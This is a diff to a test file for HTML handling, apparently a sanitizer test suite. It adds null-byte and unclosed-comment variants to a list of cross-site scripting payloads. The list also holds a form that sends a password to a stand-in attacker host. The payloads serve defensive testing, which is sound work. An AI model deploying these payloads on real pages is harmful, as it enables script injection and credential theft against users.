@@ -70,6 +70,8 @@ class TestHtml:
             '<form action="https://evil.example"><input name="password"></form>',
             "<template><script>alert(1)</script></template>",
             "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
+            "<!-- never closed <script>alert(1)</script>",
+            "<p\0><scr\0ipt>alert(1)</scr\0ipt>",
             "<!-- --!><script>alert(1)</script> -->",
             "<![CDATA[<script>alert(1)</script>]]>",
             "<?php echo 1 ?>",
